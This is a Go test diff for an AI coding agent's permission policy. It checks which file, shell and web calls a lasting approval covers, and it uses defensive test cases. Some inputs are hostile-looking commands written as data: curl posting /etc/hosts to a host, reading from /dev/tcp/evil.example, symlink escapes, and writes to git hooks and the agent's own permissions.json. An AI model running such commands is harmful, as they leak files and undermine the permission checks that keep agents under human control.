@@ -12,6 +12,7 @@ import (
 
 	"github.com/github/copilot-sdk/go/rpc"
 	"github.com/google/go-cmp/cmp"
+	"github.com/transom-run/transom/internal/policy"
 	"github.com/transom-run/transom/tool"
 )
 
@@ -139,40 +140,93 @@ func TestNothingToAsk(t *testing.T) {
 	}
 }
 
-// TestSubjects: what a lasting approval has to cover.
-func TestSubjects(t *testing.T) {
-	r := newRig(t, func(c *Config) { c.ExtraDirs = func() []string { return []string{"/usr/share"} } })
+// lasts is what an approval of a call for longer would cover, in the words of the
+// rules; "" is nothing.
+func lasts(t *testing.T, p tool.Permission) string {
+	t.Helper()
+	var keys []string
+	if !(policy.Rules{Granted: policy.Grants(nil, "", p.Request)}).Asks(p.Request, p.Prompt) {
+		keys = policy.Grants(nil, "", p.Request)
+	}
+	return strings.Join(keys, " ")
+}
+
+// TestLasting: what an approval for longer covers, and that it covers nothing where
+// a call reaches outside, or decides about more than it says.
+func TestLasting(t *testing.T) {
+	home := t.TempDir()
+	r := newRig(t, func(c *Config) {
+		c.ExtraDirs = func() []string { return []string{"/usr/share", home} }
+		c.Home = home + "/.transom"
+	})
 	r.write("in.txt", "x\n")
+	r.write("sub/deep/y.txt", "x\n")
 	must(t, os.Symlink("/etc/hosts", r.path("out")))
+	must(t, os.Symlink("/etc/hosts", r.path("sub", "deep", "evil")))
 	must(t, os.Symlink("/etc", r.path("outdir")))
-	hosts := resolve("/etc/hosts")
-	for _, tt := range []struct {
-		tool, args string
-		want       []string
-	}{
-		{"view", args("path", "in.txt"), nil},
-		{"view", args("path", "../../x"), []string{resolve(r.path("..", "..", "x"))}},
-		{"view", args("path", "out"), []string{hosts}},
-		{"view", args("path", "outdir/hosts"), []string{hosts}},
-		{"view", args("path", "/usr/share/x"), nil},
-		{"view", args("path", "/usr/share/../x"), []string{"/usr/x"}},
-		{"view", args("path", r.set.cfg.SessionDir+"/temp/x"), nil},
-		{"create", args("path", "outdir/new", "file_text", ""), []string{resolve("/etc/new")}},
-		{"create", args("path", "sub/new", "file_text", ""), nil},
-		{"edit", args("path", "in.txt", "old_str", "x", "new_str", "y"), nil},
-		{"grep", args("pattern", "x", "paths", []string{".", "/etc"}), []string{"/etc"}},
-		{"web_fetch", args("url", "https://Example.org:8080/x"), []string{"Example.org"}},
-		{"bash", args("command", "git status && ls -l | wc -l", "description", "d"), []string{"git status", "ls", "wc"}},
-		{"bash", args("command", "cat /etc/hosts", "description", "d"), []string{"=cat /etc/hosts"}},
-		{"bash", args("command", "cat outdir/hosts", "description", "d"), []string{"=cat outdir/hosts"}},
-		{"bash", args("command", "cat out", "description", "d"), []string{"=cat out"}},
-		{"bash", args("command", "cat in.txt", "description", "d"), []string{"cat"}},
-		{"bash", args("command", "cat ./in.txt", "description", "d"), []string{"cat"}},
-		{"bash", args("command", "echo x > in.txt", "description", "d"), []string{"=echo x > in.txt"}},
-		{"bash", args("command", "ls", "description", "d", "detach", true), []string{"=ls"}},
+	shell := func(command string) string { return args("command", command, "description", "d") }
+	for _, tt := range []struct{ tool, args, want string }{
+		{"view", args("path", "in.txt"), "read"},
+		{"view", args("path", "../../x"), ""},
+		{"view", args("path", "out"), ""},
+		{"view", args("path", "outdir/hosts"), ""},
+		{"view", args("path", "/usr/share/x"), "read"},
+		{"view", args("path", "/usr/share/../x"), ""},
+		{"view", args("path", r.set.cfg.SessionDir+"/temp/x"), "read"},
+		{"create", args("path", "outdir/new", "file_text", ""), ""},
+		{"create", args("path", "sub/new", "file_text", ""), "write"},
+		{"edit", args("path", "in.txt", "old_str", "x", "new_str", "y"), "write"},
+		{"grep", args("pattern", "x", "paths", []string{".", "/etc"}), ""},
+		{"web_fetch", args("url", "https://Example.org:8080/x"), "domain:example.org"},
+		// What decides about more than itself.
+		{"create", args("path", ".git/hooks/pre-commit", "file_text", ""), ""},
+		{"create", args("path", "sub/.git/config", "file_text", ""), ""},
+		{"create", args("path", ".gitignore", "file_text", ""), "write"},
+		{"create", args("path", r.set.cfg.SessionDir+"/events.jsonl", "file_text", ""), ""},
+		{"create", args("path", r.set.cfg.SessionDir+"/plan.md", "file_text", ""), "write"},
+		{"create", args("path", r.set.cfg.SessionDir+"/files/a", "file_text", ""), "write"},
+		{"create", args("path", home+"/.transom/permissions.json", "file_text", ""), ""},
+		{"create", args("path", home+"/a", "file_text", ""), "write"},
+		{"bash", shell("sort -o " + home + "/.transom/settings.json x"), ""},
+		{"bash", shell("sort -o .git/config x"), ""},
+
+		{"bash", shell("git status && ls -l | wc -l"), "command:git status command:ls command:wc"},
+		{"bash", shell("cat /etc/hosts"), ""},
+		{"bash", shell("cat outdir/hosts"), ""},
+		{"bash", shell("cat out"), ""},
+		{"bash", shell("cat in.txt"), "command:cat"},
+		{"bash", shell("cat ./in.txt"), "command:cat"},
+		{"bash", shell("echo x > in.txt"), ""},
+		{"bash", args("command", "ls", "description", "d", "detach", true), ""},
+		// From wherever it changes to, and inside of words.
+		{"bash", shell("cd sub/deep && cat y.txt"), "command:cd command:cat"},
+		{"bash", shell("cd " + strings.ReplaceAll("'"+r.dir+"'", "'q'", `'\''q'\''`) + " && cat in.txt"), "command:cd command:cat"},
+		{"bash", shell("cd sub/deep && cat evil"), ""},
+		{"bash", shell("cd sub; cd deep; cat ./evil"), ""},
+		{"bash", shell("cd / && cat etc/hosts"), ""},
+		{"bash", shell("cd outdir && cat hosts"), ""},
+		{"bash", shell("cat *.txt"), "command:cat"},
+		{"bash", shell("cat o*"), ""},
+		{"bash", shell("cat sub/*/e*"), ""},
+		{"bash", shell("for f in o*; do cat $f; done"), ""},
+		{"bash", shell("for f in out; do cat $f; done"), ""},
+		{"bash", shell("dd if=/etc/hosts"), ""},
+		{"bash", shell("dd of=in.txt"), "command:dd"},
+		{"bash", shell("grep -f/etc/hosts x"), ""},
+		{"bash", shell("grep -rnf/etc/hosts x"), ""},
+		{"bash", shell("grep --file=out x"), ""},
+		{"bash", shell("curl --data @/etc/hosts https://example.org/x"), ""},
+		{"bash", shell("curl https://example.org/etc/hosts"), "command:curl"},
+		{"bash", shell("curl file:///etc/hosts"), ""},
+		{"bash", shell("cp in.txt,~/x y"), ""},
+		{"bash", shell("cat ~root/.profile"), ""},
+		{"bash", shell("cat <~/x"), ""},
+		{"bash", shell("cat </etc/hosts"), ""},
+		{"bash", shell("cat </dev/tcp/evil.example/80"), ""},
+		{"bash", shell("'*'"), ""},
 	} {
-		if diff := cmp.Diff(tt.want, r.ask(tt.tool, tt.args).Subject); diff != "" {
-			t.Errorf("%s %s: %s", tt.tool, tt.args, diff)
+		if got := lasts(t, r.ask(tt.tool, tt.args)); got != tt.want {
+			t.Errorf("%s %s: an approval covers %q, want %q", tt.tool, tt.args, got, tt.want)
 		}
 	}
 }
